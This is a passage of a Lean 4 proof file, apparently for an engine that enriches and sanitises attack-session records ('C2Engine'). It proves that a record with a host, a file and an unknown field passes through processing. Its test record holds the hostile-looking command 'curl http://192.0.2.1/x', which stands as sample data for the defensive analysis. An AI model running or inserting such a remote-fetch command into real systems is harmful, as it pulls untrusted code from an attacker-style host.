  have hstripped := returnsNew_stripBytesAt hrepr hnodup
  rw [hfallback] at hstripped
  exact ⟨henrich, hstripped⟩

/-- A record with a host, a file and a field the engine does not know is passed through, also on a
heap with the record, the fields and the list of hosts. -/
theorem process_passesThrough_inlined : ∃ e, process .basic inlinedDoc none = .ok e ∧
    withoutEnrichment e.sessionDoc = dropContent inlinedDoc ∧
    ∃ (h : Heap) (v hosts : Val) (fields : Items Val) (S : List ℕ), Repr h v (.map inlinedDoc) S ∧
      ReturnsNew (enrichSessionAt v fields hosts) h inlinedDoc (.ok e.sessionDoc) ∧
      ReturnsNew (stripBytesAt v) h inlinedDoc (.ok (dropContent inlinedDoc)) := by
  obtain ⟨e, he⟩ := isOk_iff.mp (show (process .basic inlinedDoc none).isOk by decide +kernel)
  have hstock : Stock inlinedDoc [(key "commands", .strs [str "curl http://192.0.2.1/x"]),
      (key "note", .list [.none]), (key "files", .list [.map [(key "shasum", .str (str "aa")),
        (key "content_b64", .str (str "AAAA"))]])] := by
    refine ⟨rfl, ?_, ?_⟩
    · simp [keysOf, pivotNames, inlinedDoc, Dict.get_cons]
    · simp [keysOf, enrichmentNames, Dict.get_cons]
  obtain ⟨hwithout, -, session, ctx, -, -, hplace⟩ := process_passesThrough hstock he
  obtain ⟨h₁, v, S, -, hv, hnodup, -⟩ := exists_placed [] (.map inlinedDoc)
  obtain ⟨h₂, fs, F, hfields, hpre, hfs, -, -⟩ :=
    exists_placed_items h₁ (hpDataFields .basic session ctx)
  obtain ⟨h₃, hosts, G, hpre', hhosts, -, -⟩ := exists_placed h₂ (.strs ctx.iocs.c2Hosts)
  have hv₃ : Repr h₃ v (.map inlinedDoc) S := Holds.mono hv (hpre.trans hpre')
  obtain ⟨henrich, hstrip⟩ :=
    hplace h₃ v hosts fs S F G hv₃ hnodup (hfs.mono hpre') hfields hhosts
  exact ⟨e, he, hwithout, h₃, v, hosts, _, S, hv₃, henrich, hstrip⟩

end C2Engine
